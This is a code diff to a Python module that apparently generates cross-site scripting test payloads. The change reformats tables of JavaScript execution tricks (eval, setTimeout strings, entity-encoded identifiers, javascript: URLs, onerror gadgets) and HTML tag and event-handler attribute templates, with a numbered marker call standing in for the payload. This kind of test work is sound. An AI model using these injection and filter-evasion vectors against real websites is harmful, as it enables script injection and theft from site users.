@@ -27,39 +27,120 @@ PLACES = {
 }
 
 # Ways of calling it. In all tables `#` is the payload's number, ¶ a line break.
-CALLS = """
-q(#)
-window.q(#)
-self['q'](#)
-top.q(#)
-globalThis.q(#)
-q`#`
-[#].map(q)
-q.call(0,#)
-eval('q(#)')
-setTimeout('q(#)')
-Function('q(#)')()
-(0,eval)('q(#)')
-Reflect.apply(q,0,[#])
-\\u0071(#)
-&#113;(#)
-&#x71;&lpar;#&rpar;
-&#0000113(#)
-new(class{constructor(){q(#)}})
-queueMicrotask(()=>q(#))
-location='javascript:q(#)'
-{onerror=q;throw#}
-""".split()
-TAGS = "p b a i div span img svg math input button video select details marquee dialog custom-tag".split()
-EVENTS = """
-click dblclick mousedown mouseup mouseover mouseout mousemove mouseenter mouseleave contextmenu auxclick wheel
-pointerdown pointerup pointermove pointerover pointerout pointerenter pointerleave pointercancel gotpointercapture
-keydown keyup keypress input beforeinput change focus focusin focusout blur select submit reset invalid formdata
-copy cut paste drag dragstart dragend dragenter dragleave dragover drop scroll scrollend toggle beforetoggle
-animationstart animationend animationiteration 
-load error abort play pause ended progress canplay loadeddata loadstart volumechange seeked
-cancel close cuechange selectstart  contentvisibilityautostatechange
-""".split()
+CALLS = [
+    "q(#)",
+    "window.q(#)",
+    "self['q'](#)",
+    "top.q(#)",
+    "globalThis.q(#)",
+    "q`#`",
+    "[#].map(q)",
+    "q.call(0,#)",
+    "eval('q(#)')",
+    "setTimeout('q(#)')",
+    "Function('q(#)')()",
+    "(0,eval)('q(#)')",
+    "Reflect.apply(q,0,[#])",
+    "\\u0071(#)",
+    "&#113;(#)",
+    "&#x71;&lpar;#&rpar;",
+    "&#0000113(#)",
+    "new(class{constructor(){q(#)}})",
+    "queueMicrotask(()=>q(#))",
+    "location='javascript:q(#)'",
+    "{onerror=q;throw#}",
+]
+TAGS = [
+    "p",
+    "b",
+    "a",
+    "i",
+    "div",
+    "span",
+    "img",
+    "svg",
+    "math",
+    "input",
+    "button",
+    "video",
+    "select",
+    "details",
+    "marquee",
+    "dialog",
+    "custom-tag",
+]
+EVENTS = [
+    "click",
+    "dblclick",
+    "mousedown",
+    "mouseup",
+    "mouseover",
+    "mouseout",
+    "mousemove",
+    "mouseenter",
+    "mouseleave",
+    "contextmenu",
+    "auxclick",
+    "wheel",
+    "pointerdown",
+    "pointerup",
+    "pointermove",
+    "pointerover",
+    "pointerout",
+    "pointerenter",
+    "pointerleave",
+    "pointercancel",
+    "gotpointercapture",
+    "keydown",
+    "keyup",
+    "keypress",
+    "input",
+    "beforeinput",
+    "change",
+    "focus",
+    "focusin",
+    "focusout",
+    "blur",
+    "select",
+    "submit",
+    "reset",
+    "invalid",
+    "formdata",
+    "copy",
+    "cut",
+    "paste",
+    "drag",
+    "dragstart",
+    "dragend",
+    "dragenter",
+    "dragleave",
+    "dragover",
+    "drop",
+    "scroll",
+    "scrollend",
+    "toggle",
+    "beforetoggle",
+    "animationstart",
+    "animationend",
+    "animationiteration",
+    "load",
+    "error",
+    "abort",
+    "play",
+    "pause",
+    "ended",
+    "progress",
+    "canplay",
+    "loadeddata",
+    "loadstart",
+    "volumechange",
+    "seeked",
+    "cancel",
+    "close",
+    "cuechange",
+    "selectstart",
+    "contentvisibilityautostatechange",
+]
 # How the attribute is written. {tag}, {event}.
 SPELLINGS = (
     "<{tag} on{event}=q(#)>x</{tag}>",
@@ -374,7 +455,9 @@ def _shapes() -> list[tuple[str, str]]:
     made += [("text", next(spellings).format(tag=next(tags), event=event)) for event in EVENTS]
     for place, mark in (("double", '"'), ("single", "'")):
         made += [(place, mark + one) for one in AFTER] + [(place, mark + one.format(mark)) for one in BESIDE]
-    made += [("bare", f"a{one}") for one in AFTER] + [("bare", f"a{one.format('')}") for one in BESIDE if one[0].isspace() and "{0}" not in one]
+    made += [("bare", f"a{one}") for one in AFTER] + [
+        ("bare", f"a{one.format('')}") for one in BESIDE if one[0].isspace() and "{0}" not in one
+    ]
     return made
 
 
